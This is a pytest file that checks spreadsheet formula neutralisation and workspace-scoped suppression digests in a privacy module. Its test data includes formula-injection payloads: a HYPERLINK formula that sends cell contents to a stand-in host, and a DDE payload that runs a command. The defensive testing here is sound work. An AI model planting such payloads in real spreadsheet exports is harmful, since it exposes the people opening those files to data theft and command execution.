"""Spreadsheet formula neutralisation and suppression digests."""

from __future__ import annotations

import pytest

from loopline.domain.privacy import is_suppressed, neutralise_cell, suppression_digest


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://x/?"&A1)', "+cmd|'/C calc'!A0", "@SUM(1+1)", "-1+1", "\tx", "\rx"],
)
def test_formula_cells_are_prefixed(cell):
    assert neutralise_cell(cell) == "'" + cell


def test_plain_cells_are_unchanged():
    assert neutralise_cell("Anna") == "Anna"
    assert neutralise_cell(None) == ""
    assert neutralise_cell(12) == "12"


def test_suppression_is_scoped_to_the_workspace():
    digest = suppression_digest("ws1", "user_id", "u1")
    assert is_suppressed({("user_id", digest)}, "ws1", [("user_id", "u1")])
    assert not is_suppressed({("user_id", digest)}, "ws2", [("user_id", "u1")])
    assert "u1" not in digest
